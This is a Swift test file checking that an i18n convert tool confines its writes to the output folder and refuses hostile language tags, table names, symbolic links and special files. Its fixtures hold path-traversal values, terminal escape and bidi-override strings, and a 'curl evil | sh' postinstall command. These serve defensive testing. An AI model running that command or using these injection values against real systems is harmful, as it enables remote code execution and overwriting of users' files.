import Foundation
import Testing

/// Translation files come from vendors and translation platforms: what they say (a language, a
/// table name) must never steer a write outside `--to`.
@Suite("envtool i18n convert writes only inside --to")
struct ConvertConfinementTests {
    static let header = "msgid \"\"\nmsgstr \"\"\n\"Content-Type: text/plain; charset=UTF-8\\n\"\n"

    static func po(language: String) -> String {
        header + "\"Language: \(language)\\n\"\n\nmsgid \"scripts\"\nmsgstr \"{\\\"postinstall\\\": \\\"curl evil | sh\\\"}\"\n"
    }

    static func xliff(source: String = "en", target: String = "es", original: String = "en.lproj/Localizable.strings") -> String {
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">
          <file original="\(original)" source-language="\(source)" target-language="\(target)" datatype="plaintext">
            <body><trans-unit id="scripts"><source>A</source><target>B</target></trans-unit></body>
          </file>
        </xliff>
        """
    }

    static func catalog(source: String = "en", language: String = "es") -> String {
        """
        {"sourceLanguage": "\(source)", "version": "1.0", "strings": {"scripts": {"localizations": {
          "\(language)": {"stringUnit": {"state": "translated", "value": "B"}}}}}}
        """
    }

    /// (input file, its text, what the error must say after the file's name)
    static let hostile: [(String, String, String)] = [
        ("in/xx/package.po", po(language: ".."), "error: Language: \"..\" is not a language tag"),
        ("in/xx/settings.po", po(language: "../.vscode"), "error: Language: \"../.vscode\" is not a language tag"),
        ("in/xx/package.po", po(language: "/tmp/envtool-absolute"), "error: Language: \"/tmp/envtool-absolute\" is not a language tag"),
        ("in/xx/package.po", po(language: "en/../.."), "error: Language: \"en/../..\" is not a language tag"),
        ("in/strings.xliff", xliff(target: "../.."), "error: target-language=\"../..\" is not a language tag"),
        ("in/strings.xliff", xliff(source: "/etc"), "error: source-language=\"/etc\" is not a language tag"),
        ("in/strings.xliff", xliff(original: "en.lproj/.."), "error: the table name"),
        ("in/Localizable.xcstrings", catalog(source: "../x"), "error: the language \"../x\" is not a language tag"),
        ("in/Localizable.xcstrings", catalog(language: "../../victim"), "error: the language \"../../victim\" is not a language tag"),
        ("in/Localizable.xcstrings", catalog(language: "es\\u001b[2J"), "error: the language \"es\\u{1b}[2J\" is not a language tag"),
        ("in/values/strings.xml", android(locale: "../.."), "error: tools:locale=\"../..\" is not a language tag"),
    ]

    static func android(locale: String) -> String {
        "<resources xmlns:tools=\"http://schemas.android.com/tools\" tools:locale=\"\(locale)\"><string name=\"scripts\">B</string></resources>"
    }

    @Test(
        "a language or table name read from a file that is not a tag or a plain name is an error (65) naming the file and the value; nothing is written",
        arguments: hostile.indices)
    func hostileNames(index: Int) throws {
        let (file, text, expected) = Self.hostile[index]
        for format in ["i18next", "po", "strings", "xcstrings", "xliff", "android"] {
            let workspace = try Workspace(copySample: false)
            try workspace.write("package.json", "{\"name\": \"victim\"}")
            try workspace.write(file, text)
            let result = try workspace.run(["i18n", "convert", "--from", "in", "--to", "out/deep", "--format", format])
            #expect(result.status == 65, "\(file) → \(format): \(result.stderr)")
            #expect(result.stderr.hasPrefix(file + ":"), "\(result.stderr)")
            #expect(result.stderr.contains(expected), "\(result.stderr)")
            #expect(result.stdout.isEmpty)
            #expect(workspace.read("package.json") == Data("{\"name\": \"victim\"}".utf8))
            #expect(try FileManager.default.contentsOfDirectory(atPath: workspace.path).sorted() == ["in", "package.json"])
            #expect(!FileManager.default.fileExists(atPath: "/tmp/envtool-absolute"))
        }
    }

    @Test("--language and --source-language must be language tags (64)")
    func languageOptions() throws {
        let workspace = try Workspace(copySample: false)
        try workspace.write("in/es.json", "{\"a\": \"b\"}")
        for option in ["--language", "--source-language"] {
            let result = try workspace.run(["i18n", "convert", "--from", "in/es.json", "--to", "out", "--format", "po", option, "../x"])
            #expect(result.status == 64, "\(result.stderr)")
            #expect(result.stderr.contains("\(option) \"../x\" is not a language tag"), "\(result.stderr)")
            #expect(workspace.read("out") == nil)
        }
    }

    @Test("a symbolic link planted inside --to is not written through, for the file or a folder; --check refuses it too")
    func plantedLinks() throws {
        for planted in ["out/ru/translation.po", "out/ru"] {
            let workspace = try Workspace()
            try workspace.write("victim.txt", "keep")
            try FileManager.default.createDirectory(atPath: workspace.path + "/out", withIntermediateDirectories: true)
            let depth = planted.split(separator: "/").count - 1
            let destination = String(repeating: "../", count: depth) + (planted.hasSuffix(".po") ? "victim.txt" : "elsewhere")
            try FileManager.default.createDirectory(
                atPath: workspace.path + "/" + (planted as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            try FileManager.default.createDirectory(atPath: workspace.path + "/elsewhere", withIntermediateDirectories: true)
            try FileManager.default.createSymbolicLink(atPath: workspace.path + "/" + planted, withDestinationPath: destination)
            for check in [true, false] {
                let result = try workspace.run(["i18n", "convert", "--from", "environments", "--to", "out", "--format", "po"] + (check ? ["--check"] : []))
                #expect(result.status == 73, "\(planted): \(result.stderr)")
                #expect(result.stderr.contains("out/ru\(planted.hasSuffix(".po") ? "/translation.po" : "") is a symbolic link"), "\(result.stderr)")
                #expect(workspace.read("victim.txt") == Data("keep".utf8))
                #expect(try FileManager.default.contentsOfDirectory(atPath: workspace.path + "/elsewhere").isEmpty)
                #expect(try FileManager.default.destinationOfSymbolicLink(atPath: workspace.path + "/" + planted) == destination)
            }
        }
    }

    @Test("one refused output leaves every output as it was, also those that come before it")
    func allOrNothing() throws {
        let workspace = try Workspace()
        #expect(try workspace.run(["i18n", "convert", "--from", "environments", "--to", "out", "--format", "po"]).status == 0)
        let before = try FileManager.default.subpathsOfDirectory(atPath: workspace.path + "/out").sorted()
        for language in ["ca", "en", "es"] { try workspace.write("out/\(language)/translation.po", "edited") }
        // ru comes after ca, en and es: its folder is a link now.
        try FileManager.default.removeItem(atPath: workspace.path + "/out/ru")
        try FileManager.default.createDirectory(atPath: workspace.path + "/elsewhere", withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: workspace.path + "/out/ru", withDestinationPath: "../elsewhere")
        let result = try workspace.run(["i18n", "convert", "--from", "environments", "--to", "out", "--format", "po"])
        #expect(result.status == 73, "\(result.stderr)")
        #expect(result.stdout.isEmpty)
        for language in ["ca", "en", "es"] { #expect(workspace.read("out/\(language)/translation.po") == Data("edited".utf8)) }
        #expect(try FileManager.default.contentsOfDirectory(atPath: workspace.path + "/elsewhere").isEmpty)
        #expect(before.contains("ru/translation.po"))
    }

    @Test(
        "a table name with a control character, a bidi override or a line separator is refused, and the message shows it escaped",
        arguments: ["\u{1B}]0;pwned\u{07}", "n\nwrote x", "abc\u{202E}gpj", "a\u{2028}b", "c1\u{9B}31m"])
    func controlCharactersInNames(name: String) throws {
        let workspace = try Workspace(copySample: false)
        try workspace.write("in/en/\(name).json", "{\"a\": \"b\"}")
        let result = try workspace.run(["i18n", "convert", "--from", "in", "--to", "out", "--format", "xcstrings"])
        #expect(result.status == 65, "\(result.stderr)")
        #expect(result.stderr.contains("error: the table name \""), "\(result.stderr)")
        #expect(
            !result.stderr.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" || (0x7F...0x9F).contains($0.value) || [0x202E, 0x2028].contains($0.value) })
        #expect(result.stderr.filter { $0 == "\n" }.count == 1)
        #expect(workspace.read("out") == nil)
    }

    @Test("a --to that exists and is neither a folder nor a regular file (a FIFO) is refused, not replaced")
    func specialFileDestination() throws {
        let workspace = try Workspace()
        let fifo = workspace.path + "/out.xcstrings"
        #expect(mkfifo(fifo, 0o600) == 0)
        let result = try workspace.run(["i18n", "convert", "--from", "environments/Localizable.xcstrings", "--to", "out.xcstrings"])
        #expect(result.status == 73, "\(result.stderr)")
        #expect(result.stderr.contains("it is not a regular file"), "\(result.stderr)")
        var status = stat()
        #expect(lstat(fifo, &status) == 0 && status.st_mode & S_IFMT == S_IFIFO)
    }

    @Test("--to - is a usage error, not a folder named '-'")
    func dashDestination() throws {
        let workspace = try Workspace()
        let result = try workspace.run(["i18n", "convert", "--from", "environments", "--to", "-", "--format", "po"])
        #expect(result.status == 64)
        #expect(result.stderr.contains("--to - is not supported"), "\(result.stderr)")
        #expect(workspace.read("-") == nil)
    }

    @Test("a --to that is itself a link (the user's choice) is written into, and real languages still convert")
    func linkedDestinationIsTheUsersChoice() throws {
        let workspace = try Workspace()
        try FileManager.default.createDirectory(atPath: workspace.path + "/real", withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: workspace.path + "/out", withDestinationPath: "real")
        let result = try workspace.run(["i18n", "convert", "--from", "environments", "--to", "out", "--format", "po"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(workspace.read("real/es/translation.po") != nil)
    }
}
